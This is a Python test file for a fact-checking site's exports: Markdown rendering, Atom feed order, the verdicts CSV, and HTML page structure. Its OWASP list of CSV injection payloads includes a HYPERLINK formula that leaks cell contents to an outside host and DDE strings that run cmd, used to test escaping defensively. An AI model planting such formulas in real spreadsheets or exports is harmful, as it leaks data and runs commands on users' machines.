"""What readers and the desk are handed: the Markdown export read back by a CommonMark
parser, the feed's order, the verdicts' CSV with a browser's session and against
OWASP's CSV injection cases, valid ``<time datetime>`` values, one h1 and headings in
order on every page, and the HTML 404 and 410 pages."""

from __future__ import annotations

import copy
import csv
import io
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from factcheck.accounts import services as accounts
from factcheck.publishing import exports
from factcheck.publishing.exports import Export, Published
from factcheck.publishing.models import Publication
from factcheck.publishing.snapshot import Snapshot
from tests.unit.helpers import submitted_essay
from tests.unit.pages import post, sign_in, take_next_task_as
from tests.unit.test_exports import STORED_BEFORE_THE_MODEL

COMMONMARK = MarkdownIt("commonmark")
HTML = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}

# Text a person might write that Markdown could misread: list and heading markers,
# emphasis, links, code, HTML, entities, a heading's closing hashes.
TRICKY = [
    "A same-day poll of U.S. voters: 3.5 percent, up 0.2.",
    "# Not a heading, and - not a list",
    "1. Not a list either; nor 2) this",
    "- Nor this, or + this, or > this quote",
    "*Stars* and _underscores_ stay, but snake_case_names read as written",
    "A [link](https://evil.example) and ![an image](x.png) stay text",
    "<b>bold</b> &amp; AT&T &#38; <https://auto.link> `code` ~~~",
    "A back\\slash, and a title ending in #",
    "---",
]


def snapshot_with(text: str) -> dict:
    """The stored snapshot with ``text`` in every field a person wrote."""
    content = copy.deepcopy(STORED_BEFORE_THE_MODEL)
    content["essay"].update(title=text, author=text)
    claim = content["claims"][0]
    claim["text"] = text
    verdict = claim["verdict"]
    verdict.update(rationale=text, reviewed_by=text, approved_by=text)
    verdict["citations"][0].update(title=text, publisher=text, quote=text)
    return content


def published(content: dict, **facts) -> Published:
    values = {
        "essay_id": content["essay"]["id"],
        "version": 1,
        "kind": "publication",
        "published_at": datetime(2026, 11, 30, 9, 15, tzinfo=UTC),
        "changelog": "",
        "page_url": "https://desk.example/fact-checks/1",
        "version_url": "https://desk.example/fact-checks/1/versions/1",
        **facts,
    }
    return Published(snapshot=Snapshot.model_validate(content), **values)


def rendered_blocks(markdown: str) -> list[tuple[str, str]]:
    """Each block CommonMark makes of ``markdown``: its tag and the text it shows.
    Markup other than the citations' links fails: text was read as markup."""
    blocks, tags = [], []
    for token in COMMONMARK.parse(markdown):
        if token.nesting == 1:
            tags.append(token.tag)
        elif token.nesting == -1:
            tags.pop()
        elif token.type == "inline":
            shown = []
            for child in token.children or []:
                assert child.type in ("text", "link_open", "link_close"), (child, markdown)
                shown.append(child.content)
            blocks.append(("/".join(tags), "".join(shown)))
        else:
            raise AssertionError(f"{token.type} in {markdown!r}")
    return blocks


@pytest.mark.parametrize("text", TRICKY)
def test_the_markdown_export_reads_as_written(text):
    shown = published(snapshot_with(text), changelog=text)
    markdown = exports.to_markdown(Export([shown], "https://desk.example/1.md", "Desk"))
    blocks = rendered_blocks(markdown)
    assert ("h1", f"Fact-check: {text}") in blocks
    assert ("blockquote/p", text) in blocks  # the changelog
    assert ("h2", f"Mostly true: {text}") in blocks
    assert ("p", text) in blocks  # the rationale
    assert ("ul/li/p", f"{text}, {text}: “{text}”") in blocks
    assert ("p", f"Reviewed by {text}, approved by {text}.") in blocks


def test_the_markdown_export_escapes_only_what_needs_it():
    text = "Three same-day polls. Sadr City, 2006-11-23: 200 dead (at least)!"
    markdown = exports.to_markdown(Export([published(snapshot_with(text))], "u", "Desk"))
    assert text in markdown
    assert "\\-" not in markdown and "\\." not in markdown and "\\(" not in markdown


@given(st.text(alphabet=st.sampled_from("ab1 .-+#>*_[]()!<&;`\\~|=:\n"), max_size=24))
def test_any_text_renders_as_itself(text):
    written = " ".join(text.split())
    for prefix, tag in [("", "p"), ("## ", "h2"), ("- ", "ul/li/p")]:
        blocks = rendered_blocks(prefix + exports.md(text))
        assert blocks == ([(tag, written)] if written else blocks), (prefix, text)


# OWASP's CSV injection page: its example payloads, the two cells its escaping rules
# are shown on, and cells that open with a tab or a carriage return; then the same
# behind the leading spaces and quotes a spreadsheet skips, and full-width forms.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further info")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+2",
    "\r=1+2",
    " =1+2",
    '"=1+2',
    "'=1+2",
    "\n@SUM(1+1)",
    "\uff1d1+2",
]


def _verdicts_csv_with(text: str) -> str:
    content = snapshot_with(text)
    content["claims"][0]["verdict"]["citations"][0]["url"] = text
    return exports.verdicts_csv(Export([published(content)], "https://desk.example/", "Desk"))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_text(payload):
    """OWASP: every cell quoted, quotes doubled, and a formula-looking cell prefixed
    with an apostrophe; a separator or quote inside never opens a cell of its own."""
    written = _verdicts_csv_with(payload)
    rows = list(csv.DictReader(io.StringIO(written)))
    assert [row["essay_title"] for row in rows] == ["'" + payload] * 2
    assert rows[0]["claim"] == rows[0]["citation_urls"] == "'" + payload
    quoted = '"' + "'" + payload.replace('"', '""') + '"'
    assert written.count(quoted) == 4  # two titles, a claim and a citation


def test_owasps_escaping_examples_are_written_as_it_shows():
    assert '"\'=1+2"";=1+2"' in _verdicts_csv_with('=1+2";=1+2')
    assert '"\'=1+2\'"" ;,=1+2"' in _verdicts_csv_with("=1+2'\" ;,=1+2")


def test_every_cell_is_quoted_and_plain_text_is_left_alone():
    written = _verdicts_csv_with("Sadr City - the toll")
    for line in written.splitlines():
        cells = next(csv.reader([line], quoting=csv.QUOTE_ALL))
        assert line == ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)
    rows = list(csv.DictReader(io.StringIO(written)))
    assert rows[0]["claim"] == "Sadr City - the toll" and rows[0]["rating_value"] == "4"


def test_the_feed_is_newest_first_and_lists_claims_in_the_essays_order():
    content = copy.deepcopy(STORED_BEFORE_THE_MODEL)
    first, second = content["claims"]
    second.update(verdict=copy.deepcopy(first["verdict"]), checkable=True)
    second["verdict"].update(rating="false", label="False", value=1)
    content["claims"] = [second, first]  # stored out of the essay's order
    day = datetime(2026, 11, 30, 9, tzinfo=UTC)
    versions = [
        published(content, version=1, published_at=day),
        published(content, version=3, published_at=day + timedelta(days=2)),
        published(content, version=2, published_at=day + timedelta(days=1)),
    ]
    feed = ElementTree.fromstring(exports.atom_feed(Export(versions, "u", "Desk")))
    atom = "{http://www.w3.org/2005/Atom}"
    entries = feed.findall(f"{atom}entry")
    stamps = [entry.findtext(f"{atom}updated") for entry in entries]
    assert stamps == sorted(stamps, reverse=True) and len(set(stamps)) == 3
    assert feed.findtext(f"{atom}updated") == stamps[0]
    lines = entries[0].findtext(f"{atom}content").splitlines()
    assert lines == [f"Mostly true: {first['text']}", f"False: {second['text']}"]
    assert entries[0].findtext(f"{atom}summary") == "1 Mostly true, 1 False"  # scale order


@pytest.fixture
def fact_check(database, client, people):
    """A published fact-check (its approval stamped to the microsecond); the editor
    "ed" and the reviewer "rev" sign in with their passwords."""
    with database.scope() as session:
        editor = accounts.user_by_name(session, "ed")
        essay = submitted_essay(session, editor)
        content = copy.deepcopy(STORED_BEFORE_THE_MODEL)
        content["essay"]["id"] = essay.id
        session.add(
            Publication(essay_id=essay.id, version=1, published_by_id=editor.id, content=content)
        )
        return essay.id


def withdraw(database, essay_id: int) -> None:
    """A withdrawal version, as ``publishing.withdraw`` writes it (the previous content,
    the note as changelog)."""
    with database.scope() as session:
        first = session.query(Publication).filter_by(essay_id=essay_id).one()
        session.add(
            Publication(
                essay_id=essay_id,
                version=2,
                kind="withdrawal",
                changelog="Withdrawn: the essay was retracted.",
                published_by_id=first.published_by_id,
                content=first.content,
            )
        )


def test_a_signed_in_editor_downloads_the_verdicts_csv_from_the_desk(client, fact_check):
    assert client.get("/desk/exports/verdicts.csv").status_code == 302  # to sign in
    sign_in(client, "rev")
    assert client.get("/desk/exports/verdicts.csv").status_code == 403
    post(client, "/logout")
    sign_in(client, "ed")
    dashboard = client.get("/desk/dashboard").text
    assert 'href="/desk/exports/verdicts.csv"' in dashboard
    answer = client.get("/desk/exports/verdicts.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert next(csv.reader(io.StringIO(answer.text))) == exports.CSV_COLUMNS
    assert "Sadr City" in answer.text


# A valid HTML date, or a global date and time to the second in UTC.
DATETIME = re.compile(r"\d{4}-\d{2}-\d{2}(T\d{2}:\d{2}:\d{2}Z)?")


class Outline(HTMLParser):
    """The page's headings, in order, and its ``<time datetime>`` values."""

    def __init__(self) -> None:
        super().__init__()
        self.levels: list[int] = []
        self.datetimes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if re.fullmatch(r"h[1-6]", tag):
            self.levels.append(int(tag[1]))
        if tag == "time":
            self.datetimes.append(dict(attrs).get("datetime") or "")


def outline(html: str) -> Outline:
    parsed = Outline()
    parsed.feed(html)
    return parsed


def check_page(html: str, path: str) -> None:
    found = outline(html)
    assert found.levels[:1] == [1] and found.levels.count(1) == 1, (path, found.levels)
    for before, after in zip(found.levels, found.levels[1:], strict=False):
        assert after <= before + 1, f"{path}: h{before} then h{after}"
    for value in found.datetimes:
        assert DATETIME.fullmatch(value), f"{path}: <time datetime={value!r}>"


def check_pages(client, paths: list[str], refused: dict[str, int]) -> int:
    """Check each page; how many ``<time>`` elements they had."""
    times = 0
    for path in paths:
        answer = client.get(path, headers=HTML)
        assert answer.status_code == refused.get(path, 200), path
        check_page(answer.text, path)
        times += len(outline(answer.text).datetimes)
    return times


def test_reader_and_desk_pages_have_one_h1_headings_in_order_and_valid_datetimes(
    client, fact_check, desk_essay
):
    essay_id = fact_check
    reader = [f"/fact-checks/{essay_id}", f"/fact-checks/{essay_id}/claims/7", "/fact-checks/999"]
    desk = ["/desk/essays", desk_essay["essay"], "/desk/dashboard", "/desk/essays/new"]
    desk += [f"/desk/claims/{desk_essay['claim_id']}/history", "/login"]
    seen_times = check_pages(client, reader + desk, {"/fact-checks/999": 404})
    task = take_next_task_as(client, "rev")
    check_pages(client, ["/desk/queue", task, "/desk/essays"], {"/desk/essays": 403})
    assert seen_times >= 4  # the reader page's dates and the approval stamped to the µs
    reader_page = client.get(f"/fact-checks/{essay_id}").text
    assert 'datetime="2026-11-30T09:10:00Z"' in reader_page


def test_readers_get_html_404_and_410_pages_and_the_api_keeps_problem_details(
    client, fact_check, database
):
    missing = client.get("/fact-checks/999", headers=HTML)
    assert missing.status_code == 404 and missing.mimetype == "text/html"
    assert "<h1>Page not found</h1>" in missing.text and "/static/site." in missing.text
    assert client.get("/no/such/page", headers=HTML).mimetype == "text/html"
    # Clients that name no preference, or ask for JSON, and the API, get problem details.
    assert client.get("/fact-checks/999").mimetype == "application/problem+json"
    api = client.get("/api/v1/essays/999", headers={**HTML, "Authorization": "Bearer x"})
    assert api.mimetype == "application/problem+json"

    withdraw(database, fact_check)
    gone = client.get(f"/fact-checks/{fact_check}/claims/7", headers=HTML)
    assert gone.status_code == 410 and gone.mimetype == "text/html"
    assert f'href="/fact-checks/{fact_check}"' in gone.text
    check_page(gone.text, "410")
    assert client.get(f"/fact-checks/{fact_check}/claims/7").status_code == 410
    page = client.get(f"/fact-checks/{fact_check}", headers=HTML)
    assert page.status_code == 200 and "retracted" in page.text  # the notice stays


def test_every_page_links_the_favicon_and_it_is_served(client, fact_check):
    for path in [f"/fact-checks/{fact_check}", "/login", "/fact-checks/999"]:
        html = client.get(path, headers=HTML).text
        assert re.search(r'rel="icon" href="/static/favicon(\.[0-9a-f]+)?\.svg"', html), path
    icon = client.get("/favicon.ico", follow_redirects=True)
    assert icon.status_code == 200 and icon.mimetype == "image/svg+xml"


def test_the_lead_says_who_wrote_what_where_and_what_we_found(client, fact_check):
    html = client.get(f"/fact-checks/{fact_check}").text
    lead = html[html.index('<header class="lead">') : html.index("</header>")]
    assert '<strong class="author">Fareed Zakaria</strong>' in lead
    assert '<cite class="outlet">newsweek.com</cite>' in lead
    assert '<time datetime="2006-11-27">27 November 2006</time>' in lead
    assert 'href="https://www.newsweek.com/next-step-think-vietnam"' in lead
    assert "1 claim checked" in lead
    # Each rating given, with its count.
    counts = re.findall(
        r'class="scale-label">([^<]+)</span>\s*<strong class="scale-count">(\d+)<', lead
    )
    assert counts == [("Mostly true", "1")]
    # Cards come before the essay; only the checked claim is marked in it.
    assert html.index('class="card') < html.index('class="essay"')
    essay = html[html.index('class="essay-text"') :]
    assert essay.count('class="claim ') == 1 and "It rained." in essay
